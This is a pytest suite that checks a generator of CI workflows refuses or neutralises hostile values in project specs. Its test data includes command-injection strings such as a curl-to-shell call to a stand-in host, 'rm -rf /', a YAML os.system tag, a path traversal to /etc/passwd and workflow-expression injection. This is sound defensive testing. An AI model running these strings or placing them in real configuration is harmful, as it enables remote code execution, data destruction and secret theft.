"""No text of a spec becomes part of a workflow; what a project says of CI is a whole value, or refused."""

import re

import pytest
import yaml

from .conftest import FILES, workflows_of

TEXTS = {
    "an expression": "${{ secrets.TOKEN }}",
    "half an expression": "${{",
    "a shell's expansion": "$(curl evil.example | sh) `id`",
    "the end of a command": "x; rm -rf / #",
    "quotes": "'\" && true",
    "an injected line": "x\ninjected: true\n# ",
    "an injected step": "x\n      - run: evil",
    "Jinja of the template": "[[ options ]] [% raw %] {{ 7777 * 7777 }}",
    "workflow commands": "::set-output name=jobs::[]",
    "marks": "\ue000\ue001",
    "bidi": "\u202eevil",
    "a tag": "!!python/object/apply:os.system [id]",
    "an option": "--upload-pack=evil",
    "a path": "../../../../etc/passwd",
}
PLACES = {
    "a program": ("command: [check, data]", "command: [{}, data]"),
    "an argument": ("command: [check, data]", "command: [check, {}]"),
    "a variable": ("{name: A, value: b}", "{{name: A, value: {}}}"),
    "the name of a variable": ("{name: A, value: b}", "{{name: {}, value: b}}"),
    "a limit": ("timeout: 1h", "timeout: {}"),
    "a summary": ("summary: Refunds or not", "summary: {}"),
    "the name of a model": ("name: refunds\n", "name: {}\n"),
    "the owner": ("owner: pricing", "owner: {}"),
    "a release": ("version: 1.0.0", "version: {}"),
    "an image": ('image: "shop.example/refunds:1"', "image: {}"),
    "the name of an environment": ("name: dev\n", "name: {}\n"),
    "a cluster": ("cluster: eu", "cluster: {}"),
    "a repository": ('repository: "https://git.shop.example/deployments.git"', "repository: {}"),
    "a branch": ("branch: env/eu", "branch: {}"),
    "a schedule": ('schedule: "0 3 * * 1"', "schedule: {}"),
    "the name of the project": ("name: shop\n", "name: {}\n"),
}


def quote_yaml(text: str) -> str:
    """The text as YAML between double quotes."""
    return yaml.dump(text, default_style='"', width=10_000, Dumper=yaml.CSafeDumper).strip()


@pytest.fixture(scope="module")
def plain(small) -> dict[str, str]:
    return workflows_of(small())


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("text", TEXTS)
def test_no_text_of_a_spec_changes_a_byte(place, text, small, plain) -> None:
    old, new = PLACES[place]
    built = small((old, new.format(quote_yaml(TEXTS[text]))))
    made = workflows_of(built)
    assert made in ({}, plain)
    assert made or [finding for finding in built.findings if finding.is_blocking]


def test_names_change_no_byte_either(plain, small) -> None:
    """What each job is about, a workflow asks when it runs."""
    renamed = {
        path: text.replace("refunds", "returns").replace("pricing", "risk").replace("prod-", "live-")
        for path, text in FILES.items()
    }
    assert workflows_of(small(files=renamed)) == plain
    more = {
        **FILES,
        "models/more.yaml": re.sub(r"pipeline:\n(  .*\n)*", "", FILES["models/refunds.yaml"]).replace(
            "refunds", "more"
        ),
    }
    assert workflows_of(small(files=more)) == plain


def test_a_step_of_promotion_is_a_job_and_a_schedule_a_trigger(plain, small) -> None:
    flat = workflows_of(small(("[dev, [prod-eu, prod-us]]", "[dev, prod-eu, prod-us]")))
    assert [name for name in plain if plain[name] != flat[name]] == ["modelyard-deliver.yml"]
    job_names = [
        yaml.load(texts["modelyard-deliver.yml"], Loader=yaml.CSafeLoader)["jobs"].keys() for texts in (plain, flat)
    ]
    waves = ["publish-1", "publish-2", "publish-3"]
    assert [[job for job in jobs if "publish" in job] for jobs in job_names] == [waves[:2], waves]
    often = workflows_of(small(('schedule: "0 3 * * 1"', 'schedule: "0  3 * * 1,4"')))
    assert yaml.load(often["modelyard-retrain.yml"], Loader=yaml.CSafeLoader)["on"]["schedule"] == [
        {"cron": "0 3 * * 1,4"}
    ]
    never = workflows_of(small(('  retrain: {schedule: "0 3 * * 1"}\n', "")))
    assert "schedule" not in yaml.load(never["modelyard-retrain.yml"], Loader=yaml.CSafeLoader)["on"]


def test_models_that_are_trained_at_once_share_a_trigger(small, plain) -> None:
    more = {**FILES, "models/more.yaml": FILES["models/refunds.yaml"].replace("refunds", "more")}
    assert workflows_of(small(files=more)) == plain


OPTIONS = {
    "requirements": [*TEXTS.values(), "/etc/passwd", ""],
    "python": [*TEXTS.values(), 3.13, "2.7", "3.13; id"],
    "runner": [*TEXTS.values(), "self hosted", ""],
    "branch": [*TEXTS.values(), "main..other", "-d"],
    "jobs": [0, 257, "20", "${{ 1 }}"],
    "minutes": [0, 361, "x"],
    "calendar": [
        *TEXTS.values(),
        "* * * * *",
        "0 5",
        "99 45 * * *",
        "60 5 * * *",
        "0 24 * * *",
        "0 5 32 * *",
        "0 5 * 13 *",
        "0 5 * * 7",
        "0 5 -- * *",
        "0 5 1, * *",
    ],
    "within": [*TEXTS.values(), "30", "0d"],
    "identity": ["true", 1],
    "unknown": [1],
}


@pytest.mark.parametrize(("option", "value"), [(name, value) for name, values in OPTIONS.items() for value in values])
def test_what_a_project_says_of_ci_is_what_it_can_be_or_refused_at_its_line(option, value, small) -> None:
    option_text = (
        quote_yaml(value) if isinstance(value, str) else str(value).lower() if isinstance(value, bool) else str(value)
    )
    built = small(("      actions:\n", f"      {option}: {option_text}\n      actions:\n"))
    assert workflows_of(built) == {}
    found = {(one.code.name, one.location.path, one.location.line) for one in built.findings if one.is_blocking}
    assert ("bad-option", "modelyard.yaml", 10) in found
    assert {(path, line) for _, path, line in found} == {("modelyard.yaml", 10)}


@pytest.mark.parametrize(
    ("value", "expected_value"),
    [("version: v7.0.1", "version: '${{ x }}'"), ("version: v7.0.1", 'version: "v7 # x"'), ("version: v7.0.1", 'version: "v7\\nrun: x"'),
     ("commit: 3d3c42e5aac5ba805825da76410c181273ba90b1", "commit: v7.0.1"),
     ("commit: 3d3c42e5aac5ba805825da76410c181273ba90b1", "commit: 3d3c42e")],
)  # fmt: skip
def test_a_pin_is_a_version_and_a_whole_commit(value, expected_value, small) -> None:
    built = small((value, expected_value))
    assert workflows_of(built) == {}
    [found] = [finding for finding in built.findings if finding.is_blocking]
    assert (found.location.path, found.location.line) == ("modelyard.yaml", 11)
